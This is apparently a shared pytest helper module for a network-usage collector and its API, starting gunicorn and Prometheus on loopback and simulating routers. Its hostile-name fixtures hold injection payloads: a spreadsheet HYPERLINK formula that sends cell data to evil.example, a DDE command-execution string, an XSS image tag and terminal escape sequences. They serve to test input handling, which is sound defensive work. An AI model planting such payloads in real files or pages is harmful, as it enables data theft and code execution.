"""Helpers the tests share: the real CLI (in this process or as a subprocess), the databases
as the tests read them, a real gunicorn, the API scenario, another OS user, a bystander server.

Plain functions and classes; the fixtures built from them are in conftest.py.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
from click.testing import CliRunner

from collector.cli import cli
from collector.sim.routers import Fleet

UTC = timezone.utc  # datetime.UTC is Python 3.11+

REPO = Path(__file__).resolve().parent.parent
# A fixed, ordinary moment in the middle of a billing period (UTC).
T0 = datetime(2026, 11, 15, 12, 0, tzinfo=UTC).timestamp()


@dataclass
class CliResult:
    code: int
    stdout: str
    stderr: str


def run_cli(*args: str, now: float | None = None, env: dict | None = None,
            timeout: float = 120) -> CliResult:
    """Run `python -m collector ARGS` as a real subprocess (optionally at a fixed clock)."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("NETSTAT_")}
    full_env.setdefault("TZ", "UTC")
    if now is not None:
        full_env["NETSTAT_NOW"] = repr(now)
    full_env.update(env or {})
    proc = subprocess.run([sys.executable, "-m", "collector", *args], capture_output=True,
                          text=True, env=full_env, timeout=timeout, cwd=REPO)
    return CliResult(proc.returncode, proc.stdout, proc.stderr)


def start_run_once(config: Path, data_dir: Path, now: float, **streams) -> subprocess.Popen:
    """`run-once` as a process of its own at a fixed clock, started and not waited for: for a
    test that signals or kills it while it works. `streams`: Popen's stdout and stderr."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("NETSTAT_")}
    env.update(NETSTAT_NOW=repr(now), TZ="UTC")
    return subprocess.Popen([sys.executable, "-m", "collector", "run-once", "--config", str(config),
                             "--data-dir", str(data_dir)], cwd=REPO, env=env, **streams)


def write_config(path: Path, document: dict) -> Path:
    path.write_text(json.dumps(document, indent=2))
    return path


def invoke(*args: str, now: float | None = None, env: dict | None = None) -> CliResult:
    """Run `netstat-collect ARGS` in this process with click's CliRunner (optionally at a fixed
    clock): the quick way for what needs no process of its own (exit codes by signal, the
    lock, a kill, the installed script: use run_cli for those)."""
    full_env = {k: None for k in os.environ if k.startswith("NETSTAT_")}
    if "TZ" not in os.environ:
        full_env["TZ"] = "UTC"
    if now is not None:
        full_env["NETSTAT_NOW"] = repr(now)
    full_env.update(env or {})
    result = CliRunner().invoke(cli, list(args), env=full_env, prog_name="netstat-collect",
                                catch_exceptions=False)
    return CliResult(result.exit_code, result.stdout, result.stderr)


def collect(fleet: Fleet, config: Path, data_dir: Path, *extra: str) -> CliResult:
    """One `run-once` at the fleet's current virtual time, in this process."""
    return invoke("run-once", "--config", str(config), "--data-dir", str(data_dir), *extra,
                  now=fleet.now)


def run_once_measured(config: Path, data_dir: Path, env: dict,
                      timeout: float = 120) -> tuple[subprocess.CompletedProcess, float]:
    """`run-once` in a process of its own; (the finished process, its peak RSS in MB).

    The peak is the collector's own, not the test's: Linux carries the spawning
    process's high-water mark into a child's ru_maxrss, and this test process grows
    over a session to more than a run's peak. So run-once is started by bench/launch.py,
    a launcher of about 10 MB, which reports the kernel's wait4() accounting for it.
    """
    result = Path(data_dir).parent / f"launch-{os.getpid()}-{time.monotonic_ns()}.json"
    argv = [sys.executable, "-c", "import sys; from collector.cli import main; sys.argv[0] = "
            "'netstat-collect'; main()", "run-once", "--config", str(config),
            "--data-dir", str(data_dir)]
    launched = subprocess.run([sys.executable, "-S", str(REPO / "bench" / "launch.py"), str(result),
                               *argv], cwd=REPO, env=env, capture_output=True, text=True,
                              timeout=timeout)
    assert launched.returncode == 0, launched.stderr
    accounted = json.loads(result.read_text())
    proc = subprocess.CompletedProcess(argv, accounted["code"], launched.stdout, launched.stderr)
    return proc, accounted["maxrss"] / 2**20


def stored_usage(data_dir: Path, period: str | None = None) -> dict[str, tuple[int, int]]:
    """device -> (rx, tx) summed over routers, straight from the database (one period or all)."""
    conn = sqlite3.connect(f"file:{data_dir / 'network_stats.db'}?mode=ro", uri=True)
    try:
        where, params = ("WHERE period = ?", (period,)) if period else ("", ())
        rows = conn.execute(
            f"SELECT device, sum(rx_bytes), sum(tx_bytes) FROM usage_period {where} GROUP BY device",
            params,
        ).fetchall()
    finally:
        conn.close()
    return {device: (rx, tx) for device, rx, tx in rows}


def monthly_stats(data_dir: Path) -> dict[str, tuple[int, int, str]]:
    conn = sqlite3.connect(f"file:{data_dir / 'network_stats.db'}?mode=ro", uri=True)
    try:
        rows = conn.execute("SELECT id, rx_bytes, tx_bytes, timestamp FROM monthly_stats").fetchall()
    finally:
        conn.close()
    return {r[0]: (r[1], r[2], r[3]) for r in rows}


def truth_of(fleet: Fleet) -> dict[str, tuple[int, int]]:
    """What the simulation really moved: per device, and main_wan over every router's WAN."""
    result = {k: tuple(v) for k, v in fleet.truth.items() if not k.startswith("wan:")}
    if any(r.has_wan for r in fleet.routers.values()):
        result["main_wan"] = tuple(fleet.wan_truth())
    return result


# --- The API: a real gunicorn on 127.0.0.1 over databases the real collector wrote ------------




GUNICORN_START_SECONDS = 30


@dataclass
class ApiServer:
    """A running gunicorn; `get` talks to it with no proxy from the environment."""

    url: str
    process: subprocess.Popen
    log: Path
    session: requests.Session

    def get(self, path: str, **kwargs) -> requests.Response:
        kwargs.setdefault("timeout", 30)
        return self.session.get(self.url + path, **kwargs)

    def request(self, method: str, path: str, **kwargs) -> requests.Response:
        kwargs.setdefault("timeout", 30)
        return self.session.request(method, self.url + path, **kwargs)

    def log_text(self) -> str:
        return self.log.read_text(errors="replace") if self.log.exists() else ""


def api_environment(data_dir: Path, now: float | None = None, extra: dict | None = None) -> dict:
    """The environment gunicorn runs the API with: no NETSTAT_* from outside, our data dir."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("NETSTAT_")}
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    env["NETSTAT_DATA_DIR"] = str(data_dir)
    env.setdefault("TZ", "UTC")
    if now is not None:
        env["NETSTAT_NOW"] = repr(now)
    env.update(extra or {})
    return env


@contextmanager
def gunicorn_server(data_dir: Path, log: Path, *, now: float | None = None,
                    env: dict | None = None, command_prefix: list[str] | None = None,
                    workers: int = 2):
    """Start `python -m gunicorn 'api.app:create_app()'` on 127.0.0.1 (a port it picks).

    `command_prefix` replaces `[sys.executable]` (to run it as another user).
    The port comes from gunicorn's own "Listening at" line, so there is no race
    for a free port. Stopped with SIGTERM (then SIGKILL) at the end.
    """
    argv = [*(command_prefix or [sys.executable]), "-m", "gunicorn", "--bind", "127.0.0.1:0",
            "--workers", str(workers), "--no-control-socket", "--graceful-timeout", "5",
            "api.app:create_app()"]
    log.parent.mkdir(parents=True, exist_ok=True)
    with open(log, "wb") as sink:
        process = subprocess.Popen(argv, stdout=sink, stderr=subprocess.STDOUT, cwd=REPO,
                                   env=api_environment(data_dir, now, env),
                                   start_new_session=True)
    session = requests.Session()
    session.trust_env = False  # never a proxy from the environment: loopback only
    try:
        deadline = time.monotonic() + GUNICORN_START_SECONDS
        url = None
        while url is None:
            found = re.search(r"Listening at: (http://127\.0\.0\.1:\d+)", log.read_text(errors="replace"))
            if found:
                url = found.group(1)
            elif process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"gunicorn did not start:\n{log.read_text(errors='replace')}")
            else:
                time.sleep(0.05)
        while True:  # the master listens before a worker has booted: wait for an answer
            try:
                session.get(url + "/", timeout=5)
                break
            except requests.ConnectionError:
                if process.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError(
                        f"gunicorn did not answer:\n{log.read_text(errors='replace')}") from None
                time.sleep(0.05)
        yield ApiServer(url, process, log, session)
    finally:
        session.close()
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGTERM)
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait(timeout=15)


def file_hashes(directory: Path) -> dict[str, str]:
    """name -> sha256 of every file in a directory."""
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(directory.iterdir()) if p.is_file()}


# Named devices of the API scenario.
LAPTOP = "aa:00:00:00:00:01"     # lease with a hostname
NONAME = "aa:00:00:00:00:02"     # lease without a hostname (dnsmasq's `*`)
UNKNOWN = "aa:00:00:00:00:03"    # lease whose hostname is the literal `Unknown`
TABLET = "aa:00:00:00:00:04"     # on ap-2, which serves no DHCP: no lease at all
ZOE = "aa:00:00:00:00:05"        # non-ASCII hostname with a slash in it
SCENARIO_IPS = {LAPTOP: "10.0.0.11", NONAME: "10.0.0.12", UNKNOWN: "10.0.0.13", ZOE: "10.0.0.15"}
SCENARIO_NAMES = {LAPTOP: "laptop", NONAME: "", UNKNOWN: "Unknown", ZOE: "Zoë/tablet"}
OLD_PHONE = "aa:00:00:00:00:09"  # named in the configuration, never seen
# The scenario's `devices` section, as a user would write it (a MAC in capitals with dashes,
# a name alone as a plain string), and what each seen device's name and owner must then be.
SCENARIO_DEVICES = {
    LAPTOP: {"name": "Anna's laptop", "owner": "Anna"},
    TABLET: {"owner": "Anna"},
    NONAME: {"name": "  Printer ", "owner": "Ben"},
    ZOE: "Zoë's tablet",
    OLD_PHONE.upper().replace(":", "-"): {"name": "Old phone", "owner": "Ben"},
}
SCENARIO_LABELS = {LAPTOP: ("Anna's laptop", "Anna"), TABLET: (None, "Anna"), NONAME: ("Printer", "Ben"),
                   ZOE: ("Zoë's tablet", None), UNKNOWN: (None, None)}


@dataclass
class ApiScenario:
    """Databases the real collector wrote from simulated routers, and what they must hold.

    The configuration names and assigns owners to some devices (SCENARIO_DEVICES).

    Runs at 2026-11-15 12:00 (first contact), 12:30, 2026-11-16 12:30 and
    2026-12-01 00:30 UTC: November is a past period, December the current one.
    """

    data_dir: Path
    config: Path
    now: float  # the virtual time of the last run, which the API's clock is set to
    run_times: list[float]
    # period label / day -> device -> [rx, tx] (main_wan included)
    periods: dict[str, dict[str, list[int]]]
    days: dict[str, dict[str, list[int]]]
    hashes: dict[str, str]  # the data directory's files before any API served them
    run_codes: list[int]


def build_api_scenario(fleet: Fleet, base: Path) -> ApiScenario:
    """Collect through a month change from three simulated routers (one fails at the end)."""
    data_dir = base / "data"
    config = base / "routers.json"
    fleet.add_router("router-1")
    fleet.add_router("ap-2", wan=False, dhcp=False)
    fleet.add_router("ap-3", wan=False, dhcp=False)
    for mac in (LAPTOP, NONAME, UNKNOWN, ZOE):
        fleet.join("router-1", mac, hostname=SCENARIO_NAMES[mac], ip=SCENARIO_IPS[mac])
    fleet.join("ap-2", TABLET)
    write_config(config, {**fleet.config(settings={"timezone": "UTC"}), "devices": SCENARIO_DEVICES})

    periods: dict[str, dict[str, list[int]]] = {}
    days: dict[str, dict[str, list[int]]] = {}
    run_times: list[float] = []
    codes: list[int] = []

    def run() -> None:
        result = collect(fleet, config, data_dir)
        assert result.code in (0, 1), result.stderr
        codes.append(result.code)
        run_times.append(fleet.now)

    def move(router: str, mac: str, upload: int, download: int) -> None:
        """Traffic counted by the next run: its period and day are the next run's."""
        fleet.transfer(router, mac, upload, download, wan_router="router-1")
        pending.append((mac, upload, download))

    def settle() -> None:
        stamp = datetime.fromtimestamp(fleet.now, UTC)
        for mac, upload, download in pending:
            for table, key in ((periods, stamp.strftime("%Y-%m")), (days, stamp.strftime("%Y-%m-%d"))):
                for device, rx, tx in ((mac, upload, download), ("main_wan", download, upload)):
                    entry = table.setdefault(key, {}).setdefault(device, [0, 0])
                    entry[0] += rx
                    entry[1] += tx
        pending.clear()
        run()

    pending: list[tuple[str, int, int]] = []
    run()  # first contact: baselines only
    move("router-1", LAPTOP, 1_048_576, 157_286_400)  # 1 MiB up, 150 MiB down
    move("router-1", NONAME, 204_800, 3_145_728)
    move("router-1", UNKNOWN, 10_000, 20_000)
    move("ap-2", TABLET, 524_288, 7_340_032)
    move("router-1", ZOE, 1_500_000, 1_234_567)
    fleet.advance(1800)
    settle()
    move("router-1", LAPTOP, 2_097_152, 104_857_600)
    move("ap-2", TABLET, 100_000, 900_000)
    fleet.advance(86400)
    settle()
    move("router-1", LAPTOP, 300_000, 4_000_000)
    move("router-1", NONAME, 5_000, 60_000)
    move("router-1", UNKNOWN, 7_000, 8_000)
    move("ap-2", TABLET, 40_000, 50_000)
    move("router-1", ZOE, 900, 1_000)
    fleet.now = datetime(2026, 12, 1, 0, 30, tzinfo=UTC).timestamp()
    fleet.set_fault("ap-3", "http500")  # its last poll fails: router health shows the error
    settle()
    return ApiScenario(data_dir, config, fleet.now, run_times, periods, days,
                       file_hashes(data_dir), codes)


# Devices whose names are hostile: DHCP hostnames chosen by whoever joins the network, and
# names and owners typed into the configuration (pasted from anywhere).
FORMULA_HOST = "aa:00:00:00:00:11"
ESCAPE_HOST = "aa:00:00:00:00:12"
MARKUP_HOST = "aa:00:00:00:00:13"
LONG_NAME = "aa:00:00:00:00:14"
HOSTILE_HOSTNAMES = {
    FORMULA_HOST: '=HYPERLINK("http://evil.example/?"&A1,"x")',
    ESCAPE_HOST: "\x1b[31mred\x1b[0m",
    MARKUP_HOST: "<img src=x onerror=alert(1)>",
    LONG_NAME: "-x",
}
HOSTILE_DEVICES = {
    ESCAPE_HOST: {"name": "+cmd|' /C calc'!A0", "owner": "@SUM(1+1)"},
    MARKUP_HOST: {"name": "-2+3\x1b]0;pwned\x07", "owner": "<b>Anna</b>"},
    LONG_NAME: {"name": "W" * 199 + "\u03a9", "owner": "\u202eevil\u200f"},
}


def build_hostile_names(fleet: Fleet, base: Path) -> tuple[Path, float]:
    """Two runs over devices with the hostile names above; (the data directory, the last run's time)."""
    data_dir = base / "data"
    fleet.add_router("router-1")
    for i, (mac, hostname) in enumerate(HOSTILE_HOSTNAMES.items()):
        fleet.join("router-1", mac, hostname=hostname, ip=f"10.0.0.{50 + i}")
    config = write_config(base / "routers.json", {**fleet.config(settings={"timezone": "UTC"}),
                                                  "devices": HOSTILE_DEVICES})
    assert collect(fleet, config, data_dir).code == 0
    for i, mac in enumerate(HOSTILE_HOSTNAMES):
        fleet.transfer("router-1", mac, 1000 * (i + 1), 10_000 * (i + 1), wan_router="router-1")
    fleet.advance(1800)
    assert collect(fleet, config, data_dir).code == 0
    return data_dir, fleet.now


def answers_during(server: ApiServer, path: str, action, max_requests: int = 2000) -> tuple:
    """Run action() while a thread keeps GETting path; (action's result, [(status, json)]).

    The action starts once the first answer is in, so the requests overlap it.
    """
    import threading

    seen: list[tuple[int, object]] = []
    started = threading.Event()
    done = threading.Event()

    def poll() -> None:
        while not done.is_set() and len(seen) < max_requests:
            r = server.get(path)
            seen.append((r.status_code, r.json()))
            started.set()

    thread = threading.Thread(target=poll, daemon=True)
    thread.start()
    try:
        assert started.wait(timeout=30), "the API did not answer"
        result = action()
    finally:
        done.set()
        thread.join(timeout=60)
    return result, seen


# --- Running this Python as another OS user (root only) ------------------------------------


def _closed_ancestor(path: Path) -> Path | None:
    """The outermost directory on the way to path that other users may not enter."""
    for parent in reversed(path.resolve().parents):
        if not os.stat(parent).st_mode & stat.S_IXOTH:
            return parent
    return None


def as_user(user: str, group: str, stage: Path) -> list[str]:
    """A command prefix that runs this Python as user:group (group as the primary group)."""
    setpriv = ["setpriv", f"--reuid={user}", f"--regid={group}", "--init-groups", "--"]
    needed = [Path(sys.base_prefix), Path(sys.prefix), Path(sys.executable), REPO]
    children: dict[Path, set[str]] = {}
    for path in needed:
        closed = _closed_ancestor(path)
        if closed is not None:
            children.setdefault(closed, set()).add(path.resolve().relative_to(closed).parts[0])
    if not children:
        return [*setpriv, sys.executable]
    if len(children) > 1:
        pytest.skip(f"Python and the repository lie under several closed directories "
                    f"({', '.join(map(str, children))}); not set up for that")
    (closed, names), = children.items()
    stage.mkdir(mode=0o755, exist_ok=True)
    script = "set -e; " + "".join(
        f'mkdir -p "{stage / name}"; mount --rbind "{closed / name}" "{stage / name}"; '
        for name in sorted(names)) + f'mount --rbind "{stage}" "{closed}"; exec "$@"'
    return ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", script, "sh",
            *setpriv, sys.executable]


# --- Another loopback server, one no collector request may reach -----------------------------



@dataclass
class Bystander:
    """An HTTP server on another loopback address or port; `hits` lists the paths it served."""

    url: str
    hits: list[str]


@contextmanager
def bystander(host: str = "127.0.0.2"):
    """Serve a valid wan_stats answer on host (a loopback address), recording every request.

    A redirect target for the tests: were the collector to follow a router there, it
    would get a good answer, so only the refusal can make the endpoint fail.
    """
    assert host.startswith("127."), "loopback only"
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
            hits.append(self.path)
            body = b"wan: 1 2\nuptime: 3\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer((host, 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Bystander(f"http://{host}:{server.server_address[1]}", hits)
    finally:
        server.shutdown()
        server.server_close()


# --- A real Prometheus (Debian's `prometheus`) on 127.0.0.1 ---------------------------------

PROMETHEUS_START_SECONDS = 60


@dataclass
class PrometheusServer:
    """A running Prometheus; `query` asks its HTTP API for an instant vector or scalar."""

    url: str
    process: subprocess.Popen
    log: Path
    session: requests.Session

    def query(self, expr: str, at: float | None = None) -> list[dict]:
        """The result of /api/v1/query (at a given evaluation time, else now)."""
        params = {"query": expr} if at is None else {"query": expr, "time": repr(at)}
        r = self.session.get(self.url + "/api/v1/query", params=params, timeout=30)
        body = r.json()
        assert (r.status_code, body["status"]) == (200, "success"), (expr, body)
        return body["data"]["result"]

    def values(self, expr: str, label: str | None = None, at: float | None = None) -> dict:
        """label value (or the whole label set as a sorted tuple) -> the sample's value as float."""
        result = {}
        for item in self.query(expr, at):
            key = (item["metric"].get(label) if label else
                   tuple(sorted(item["metric"].items())))
            result[key] = float(item["value"][1])
        return result

    def wait_for(self, expr: str, expected, *, label: str | None = None, timeout: float = 60) -> dict:
        """Poll until values(expr, label) == expected; the last values otherwise (to assert on)."""
        deadline = time.monotonic() + timeout
        while True:
            got = self.values(expr, label)
            if got == expected or time.monotonic() > deadline:
                return got
            time.sleep(0.2)

    def log_text(self) -> str:
        return self.log.read_text(errors="replace") if self.log.exists() else ""


def free_loopback_port() -> int:
    """A port nothing listens on right now (Prometheus cannot listen on port 0 and report it)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def prometheus_server(work: Path, config: str, *, attempts: int = 5):
    """Debian's `prometheus` with `config` (YAML text), its own TSDB under `work`, on 127.0.0.1.

    The port is picked free and Prometheus started on it, again on another port when
    something took it in between. Stopped with SIGTERM (then SIGKILL) at the end.
    """
    binary = shutil.which("prometheus")
    if binary is None:
        pytest.skip("Debian's prometheus is not installed (apt-get install prometheus)")
    work.mkdir(parents=True, exist_ok=True)
    (work / "prometheus.yml").write_text(config)
    session = requests.Session()
    session.trust_env = False  # loopback only, never a proxy
    process = None
    try:
        for attempt in range(attempts):
            port = free_loopback_port()
            log = work / f"prometheus-{attempt}.log"
            with open(log, "wb") as sink:
                process = subprocess.Popen(
                    [binary, f"--config.file={work / 'prometheus.yml'}",
                     f"--storage.tsdb.path={work / f'tsdb-{attempt}'}",
                     f"--web.listen-address=127.0.0.1:{port}", "--log.level=warn"],
                    stdout=sink, stderr=subprocess.STDOUT, cwd=work, start_new_session=True)
            url = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + PROMETHEUS_START_SECONDS
            while process.poll() is None and time.monotonic() < deadline:
                try:
                    if session.get(url + "/-/ready", timeout=5).status_code == 200:
                        break
                except requests.ConnectionError:
                    pass
                time.sleep(0.1)
            if process.poll() is None and time.monotonic() < deadline:
                break
            text = log.read_text(errors="replace")
            _stop_group(process)
            if "address already in use" not in text:
                raise RuntimeError(f"prometheus did not start:\n{text}")
        else:
            raise RuntimeError(f"prometheus found no free port in {attempts} attempts")
        yield PrometheusServer(url, process, log, session)
    finally:
        session.close()
        if process is not None:
            _stop_group(process)


def _stop_group(process: subprocess.Popen) -> None:
    if process.poll() is None:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=15)
